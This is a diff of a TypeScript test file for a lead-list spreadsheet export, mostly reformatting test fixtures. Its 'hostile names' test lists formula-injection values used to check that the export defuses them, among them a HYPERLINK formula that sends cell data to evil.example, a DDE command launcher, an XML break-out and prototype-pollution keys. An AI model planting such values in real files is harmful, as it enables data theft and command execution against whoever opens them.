@@ -19,13 +19,8 @@ const aLead = (lead: Partial<OrderedLeadRow> = {}): OrderedLeadRow => ({
   ...NO_PARTS,
   ...NO_STREET,
   mailing_address: null,
-  phones: [],
-  emails: [],
-  facts: {},
-  source: 'County records',
-  is_do_not_call: false,
-  consent: null,
-  is_left_alone: false,
+  ...{ phones: [], emails: [], facts: {}, source: 'County records' },
+  ...{ is_do_not_call: false, consent: null, is_left_alone: false },
   ...lead,
 })
 
@@ -49,15 +44,8 @@ describe('a row', () => {
 
   test('of a lead whose data was deleted says so and keeps its place', () => {
     const gone = aLead({
-      address: null,
-      city: null,
-      zip: null,
-      owner_names: null,
-      phones: null,
-      emails: null,
-      facts: null,
-      source: null,
-      is_left_alone: true,
+      ...{ address: null, city: null, zip: null, owner_names: null, phones: null, emails: null, facts: null },
+      ...{ source: null, is_left_alone: true },
     })
 
     expect(cellsOf(gone)).toMatchObject({ Address: WITHDRAWN, Owner: null, 'Phone 1': null, 'Age in days': 2 })
@@ -78,20 +66,9 @@ test('the file has as many phone and email columns as one lead needs, at least o
 
 describe('hostile names', () => {
   const HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Call me")',
-    '+1+cmd|"/C calc"!A0',
-    '-2+3',
-    '@SUM(A1)',
-    '\t=1+1',
-    '\r=1+1',
-    '＝1+1',
-    'Ann;＠SUM(A1)',
-    'a "quoted", name\r\nwith lines',
-    '</t></is></c><c><f>1+1</f></c>',
-    '__proto__',
-    'constructor',
-    'half \ud800 letter',
-    'zero \u0001 control',
+    ...['=HYPERLINK("http://evil.example/?"&A1,"Call me")', '+1+cmd|"/C calc"!A0', '-2+3', '@SUM(A1)', '\t=1+1'],
+    ...['\r=1+1', '＝1+1', 'Ann;＠SUM(A1)', 'a "quoted", name\r\nwith lines', '</t></is></c><c><f>1+1</f></c>'],
+    ...['__proto__', 'constructor', 'half \ud800 letter', 'zero \u0001 control'],
   ]
   const rows = leadSheet(
     HOSTILE.map((name) => aLead({ owner_names: [name] })),
